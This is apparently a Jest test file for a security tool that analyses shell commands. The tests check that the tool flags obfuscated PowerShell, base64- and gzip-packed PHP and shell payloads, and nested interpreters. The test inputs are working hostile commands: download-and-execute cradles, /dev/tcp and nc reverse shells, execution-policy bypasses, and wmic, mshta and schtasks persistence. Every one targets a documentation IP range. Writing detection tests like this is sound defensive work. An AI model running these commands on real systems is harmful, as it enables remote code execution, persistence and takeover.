/** Issue 21's list of misses, each with the findings and IOCs it must give (through the worker's zlib). */
import { zlibInflate } from '../../../src/adapters/analysis/inflate';
import { analyzeCommand } from '../../../src/domain/command-analysis';

const analyse = (c: string) => analyzeCommand(c, { inflate: zlibInflate });
const ids = (c: string) => analyse(c).findings.map((f) => f.id);

describe('issue 21 cases', () => {
  test.each([
    ['powershell -ep bypass -c "iwr -useb https://203.0.113.70/x | iex"', ['execution-policy-bypass', 'download-cradle', 'invoke-expression', 'download-and-execute'], 'https://203.0.113.70/x'],
    ['irm https://203.0.113.70/setup.ps1 | iex', ['download-cradle', 'invoke-expression', 'download-and-execute'], 'https://203.0.113.70/setup.ps1'],
    ['curl -s http://203.0.113.72/i.sh | sh', ['download-cradle', 'download-and-execute'], 'http://203.0.113.72/i.sh'],
    ['wget -qO- http://203.0.113.72/i.sh | bash', ['download-cradle', 'download-and-execute'], 'http://203.0.113.72/i.sh'],
    ['/bin/sh -c wget -q -O - http://203.0.113.74/k.sh | sh', ['download-cradle', 'download-and-execute'], 'http://203.0.113.74/k.sh'],
  ])('%s', (command, expected, url) => {
    const r = analyse(command);
    expect(r.findings.map((f) => f.id)).toEqual(expect.arrayContaining(expected));
    expect(r.iocs.urls).toContain(url);
  });

  test('caret-obfuscated PowerShell inside cmd is analysed as PowerShell, in its layer', () => {
    const r = analyse(`cmd.exe /c "po^wer^shell -e^xec b^ypass -c ""IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.71/a')"""`);
    expect(r.findings.map((f) => f.id)).toEqual(expect.arrayContaining(['execution-policy-bypass', 'download-cradle', 'invoke-expression', 'download-and-execute']));
    expect(r.findings.find((f) => f.id === 'execution-policy-bypass')).toMatchObject({ evidence: '-exec bypass', mitre: 'T1059.001', layer: 'cmd › cmd' });
    expect(r.findings.find((f) => f.id === 'download-cradle')?.layer).toBe('cmd › cmd › powershell');
    expect(r.iocs.urls).toEqual(['http://203.0.113.71/a']);
  });

  test('echo … | base64 -d | sh: decoded and analysed as sh', () => {
    const payload = Buffer.from('curl -s http://203.0.113.72/m | sh').toString('base64');
    const r = analyse(`echo ${payload} | base64 -d | sh`);
    expect(r.findings.map((f) => f.id)).toEqual(['download-cradle', 'download-and-execute', 'base64-decode-execute']);
    expect(r.findings[0]).toMatchObject({ evidence: 'curl -s http://203.0.113.72/m', layer: 'sh › base64' });
    expect(r.iocs.urls).toEqual(['http://203.0.113.72/m']);
  });

  test('bash -i >& /dev/tcp/…: a reverse shell and its endpoint', () => {
    const r = analyse('bash -i >& /dev/tcp/203.0.113.73/4444 0>&1');
    expect(r.findings.map((f) => f.id)).toEqual(['reverse-shell']);
    expect(r.findings[0]).toMatchObject({ mitre: 'T1059.004', evidence: '/dev/tcp/203.0.113.73/4444' });
    expect(r.iocs.ips).toEqual(['203.0.113.73']);
    expect(r.iocs.endpoints).toEqual(['203.0.113.73:4444']);
  });

  test("php -r 'eval(base64_decode(…))' is decoded: it hides curl | sh", () => {
    const r = analyse(`php -r 'eval(base64_decode("${Buffer.from('system("curl -s http://203.0.113.75/x | sh");').toString('base64')}"));'`);
    expect(r.findings.map((f) => f.id)).toEqual(['download-cradle', 'download-and-execute', 'base64-decode-execute', 'php-eval']);
    expect(r.findings.find((f) => f.id === 'download-cradle')?.layer).toBe('sh › php › base64 › sh');
    expect(r.iocs.urls).toEqual(['http://203.0.113.75/x']);
  });

  test('gzinflate(base64_decode(…)) is inflated (capped) and analysed', () => {
    const { deflateRawSync } = jest.requireActual<typeof import('node:zlib')>('node:zlib');
    const packed = deflateRawSync(Buffer.from('system("nc -e /bin/sh 203.0.113.90 4444");')).toString('base64');
    const r = analyse(`php -r 'eval(gzinflate(base64_decode("${packed}")));'`);
    expect(r.findings.map((f) => f.id)).toEqual(expect.arrayContaining(['reverse-shell', 'php-eval', 'base64-decode-execute']));
    expect(r.findings.find((f) => f.id === 'reverse-shell')?.layer).toBe('sh › php › base64 › gzip › sh');
  });

  test('evidence strings are clean: no stray ) or quotes', () => {
    const r = analyse(`powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://203.0.113.45/u.exe','u.exe'); Start-Process 'u.exe'"`);
    for (const f of r.findings) expect(f.evidence).not.toMatch(/^[)"']|[("']$/);
    expect(r.findings.find((f) => f.id === 'download-cradle')?.evidence).toBe('Net.WebClient.DownloadFile');
  });

  test.each([
    ["powershell -c \"&('i'+'e'+'x') ((New-Object Net.WebClient).('Down'+'loadString').Invoke('http://203.0.113.81/b'))\"", 'invoke-expression'],
    ["powershell -c \"$s='piZ//:ptth' ; I`E`X (iwr ((-join $s[-1..-100]) + '203.0.113.82/c'))\"", 'invoke-expression'],
    ['powershell -c "&($env:comspec[4,15,25]-join\'\') $x"', 'invoke-expression'],
    ['powershell -c "& ([char[]](105,101,120) -join \'\') $x"', 'invoke-expression'],
    ["powershell -c \"&('{1}{0}' -f 'x','ie') $x\"", 'invoke-expression'],
    ["powershell -c \"&('iYx' -replace 'y','e') $x\"", 'invoke-expression'],
    ["powershell -nop -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RhcnQtUHJvY2VzcyBjYWxjLmV4ZQ==')))\"", 'process-start'],
  ])('deobfuscation on tokens: %s → %s', (command, id) => {
    expect(ids(command)).toContain(id);
  });

  test.each([
    ['wmic process call create "powershell -w hidden -ep bypass -c iwr http://203.0.113.8/a.ps1 -useb | iex"', ['lolbin-execute', 'hidden-window', 'execution-policy-bypass', 'download-and-execute']],
    ['schtasks /create /sc minute /tn x /tr "powershell -nop -c IEX(iwr http://203.0.113.62/a)"', ['persistence', 'no-profile', 'invoke-expression']],
    ['python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==\'))"', ['base64-decode-execute']],
    ['mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w hidden -nop -c iex(irm http://203.0.113.12/s)"":close")', ['lolbin-execute', 'download-cradle', 'invoke-expression', 'download-and-execute']],
  ])('nested interpreters: %s', (command, expected) => {
    expect(ids(command)).toEqual(expect.arrayContaining(expected));
  });

  test.each([
    ['apt-get install -y curl'],
    ['apk add --no-cache bash curl jq'],
    ['echo dGVzdA== | base64 -d'],
    ['curl -fsSLo /tmp/kubectl https://dl.k8s.io/release/v1.29.2/bin/linux/amd64/kubectl'],
  ])('benign: %s gives nothing suspicious', (command) => {
    expect(ids(command).filter((id) => id !== 'download-cradle' || !command.startsWith('curl'))).toEqual([]);
  });
});
